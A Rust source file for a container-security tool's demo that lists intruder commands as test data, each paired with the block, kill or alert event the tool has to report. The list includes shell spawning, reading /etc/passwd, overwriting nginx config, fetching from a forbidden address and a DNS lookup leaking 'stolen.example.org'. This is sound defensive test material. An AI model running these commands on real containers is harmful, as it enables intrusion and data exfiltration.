//! What the demo tries in the nginx container, as data.

use moat_event::{Event, EventAction, EventType};

/// An address of a network that `examples/no-egress.yaml` forbids, and one that it excepts (RFC 5737, RFC 3849).
/// The demo's pods have them themselves, so that without Moat somebody answers there.
pub const FORBIDDEN_V4: &str = "192.0.2.1";
pub const FORBIDDEN_V6: &str = "2001:db8::1";
pub const EXCEPTED_V4: &str = "192.0.2.53";

/// A program that came into the container after its start.
pub const DROPPED: &str = "/tmp/id";

/// What the nginx of the demo serves.
pub const PAGE: &str = "served by the nginx container";

/// Something that an intruder does, by a command put into the container as `kubectl exec` does.
#[derive(Debug)]
pub struct Attack {
    pub title: &'static str,
    pub command: &'static [&'static str],
    pub success: Success,
    /// What Moat must make of it.
    pub end: End,
    pub policy: &'static str,
    pub event: EventType,
    /// Part of the path, the peer's address or the system call that the event must name.
    pub subject: &'static str,
}

/// How to tell that an attack did what it was for. It does in a container that no policy selects.
#[derive(Debug, Clone, Copy)]
pub enum Success {
    /// It printed this.
    Prints(&'static str),
    /// The file has another content or mode than before.
    Changes(&'static str),
    /// Its error was another than "Operation not permitted": the packet left.
    Leaves,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum End {
    /// An error, and no effect.
    Refused,
    /// Killed before it had an effect.
    Killed,
    /// This kernel can only report it (and the rule's status says so).
    Reported,
}

impl Attack {
    /// Whether this event is Moat's account of this attack.
    pub fn is_told_by(&self, event: &Event) -> bool {
        let actions: &[EventAction] = match self.end {
            End::Refused => &[EventAction::Blocked],
            End::Killed => &[EventAction::Killed, EventAction::Blocked],
            End::Reported => &[EventAction::Alerted, EventAction::Killed],
        };
        event.event_type == self.event
            && event.policy_name.as_deref() == Some(self.policy)
            && actions.contains(&event.action)
            && subject(event).contains(self.subject)
    }
}

/// What an event is about, in the words of its kind.
fn subject(event: &Event) -> String {
    let peer = event.peer.as_ref().map(|peer| peer.address.to_string());
    let executable = event.process.as_ref().map(|process| process.executable.clone());
    event.file_path.clone().or(peer).or_else(|| event.syscall.clone()).or(executable).unwrap_or_default()
}

/// Each rule of `examples/` that guard holds once, at least. They select the label `app=nginx`.
pub const ATTACKS: &[Attack] = &[
    Attack {
        title: "open a shell in the container",
        command: &["sh", "-c", "id"],
        success: Success::Prints("uid=0"),
        end: End::Refused,
        policy: "no-shells",
        event: EventType::ProcessExec,
        subject: "/bin/sh",
    },
    Attack {
        title: "get a shell from a program of another name, seen by its arguments",
        command: &["busybox", "sh", "-c", "id"],
        success: Success::Prints("uid=0"),
        end: End::Killed,
        policy: "no-shells",
        event: EventType::ProcessExec,
        subject: "/busybox",
    },
    Attack {
        title: "read the list of users",
        command: &["cat", "/etc/passwd"],
        success: Success::Prints("root:"),
        end: End::Refused,
        policy: "DisallowEtcAccessForNginx",
        event: EventType::FileAccess,
        subject: "/etc/passwd",
    },
    Attack {
        title: "overwrite the server's configuration",
        command: &["cp", "/etc/nginx/mime.types", "/etc/nginx/nginx.conf"],
        success: Success::Changes("/etc/nginx/nginx.conf"),
        end: End::Refused,
        policy: "read-only-etc",
        event: EventType::FileAccess,
        subject: "/etc/nginx/nginx.conf",
    },
    Attack {
        title: "make the configuration writable for everyone",
        command: &["chmod", "666", "/etc/nginx/fastcgi.conf"],
        success: Success::Changes("/etc/nginx/fastcgi.conf"),
        end: End::Reported,
        policy: "read-only-etc",
        event: EventType::FileAccess,
        subject: "/etc/nginx/fastcgi.conf",
    },
    Attack {
        title: "fetch something from a forbidden network",
        command: &["wget", "-q", "-O", "-", "http://192.0.2.1/"],
        success: Success::Prints(PAGE),
        end: End::Refused,
        policy: "no-egress",
        event: EventType::NetworkConnection,
        subject: FORBIDDEN_V4,
    },
    Attack {
        title: "the same over IPv6",
        command: &["wget", "-q", "-O", "-", "http://[2001:db8::1]/"],
        success: Success::Prints(PAGE),
        end: End::Refused,
        policy: "no-egress",
        event: EventType::NetworkConnection,
        subject: FORBIDDEN_V6,
    },
    Attack {
        title: "leak data in name lookups, over UDP",
        command: &["nslookup", "stolen.example.org", FORBIDDEN_V4],
        success: Success::Leaves,
        end: End::Refused,
        policy: "no-egress",
        event: EventType::NetworkConnection,
        subject: FORBIDDEN_V4,
    },
    Attack {
        title: "look into another process",
        command: &["trace-process"],
        success: Success::Prints("attached"),
        end: End::Killed,
        policy: "no-dangerous-syscalls",
        event: EventType::Syscall,
        subject: "ptrace",
    },
    Attack {
        title: "run a program that was dropped into the container",
        command: &[DROPPED],
        success: Success::Prints("uid=0"),
        end: End::Killed,
        policy: "immutable-image",
        event: EventType::Drift,
        subject: DROPPED,
    },
    Attack {
        title: "run a program from memory, without any file",
        command: &["run-from-memory"],
        success: Success::Prints("uid=0"),
        end: End::Killed,
        policy: "immutable-image",
        event: EventType::Drift,
        subject: "memfd:",
    },
];

/// What must go on working in the same container.
#[derive(Debug)]
pub struct Benign {
    pub title: &'static str,
    pub command: &'static [&'static str],
    pub prints: &'static str,
}

pub const BENIGN: &[Benign] = &[
    Benign {
        title: "read the server's configuration",
        command: &["cat", "/etc/nginx/nginx.conf"],
        prints: "worker_processes",
    },
    Benign { title: "list a folder", command: &["ls", "/etc/nginx"], prints: "mime.types" },
    Benign { title: "write a file in /tmp", command: &["touch", "/tmp/note"], prints: "" },
    Benign {
        title: "connect to a network that no rule names",
        command: &["wget", "-q", "-O", "-", "http://127.0.0.1/"],
        prints: PAGE,
    },
    Benign {
        title: "connect to the one address that the forbidden network excepts",
        command: &["wget", "-q", "-O", "-", "http://192.0.2.53/"],
        prints: PAGE,
    },
];
